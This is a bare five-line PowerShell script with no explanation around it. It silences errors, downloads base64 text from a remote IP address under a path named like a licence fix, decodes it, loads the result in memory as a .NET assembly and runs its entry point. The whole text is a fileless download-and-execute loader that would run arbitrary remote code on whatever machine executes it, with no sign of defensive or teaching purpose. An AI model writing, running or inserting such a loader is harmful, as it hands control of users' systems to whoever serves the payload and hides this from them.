$ErrorActionPreference = 'SilentlyContinue'
$s = (New-Object Net.WebClient).DownloadString('http://192.0.2.14/lic/fix.txt')
$b = [Convert]::FromBase64String($s)
$a = [Reflection.Assembly]::Load($b)
$a.EntryPoint.Invoke($null, (, [string[]] @()))
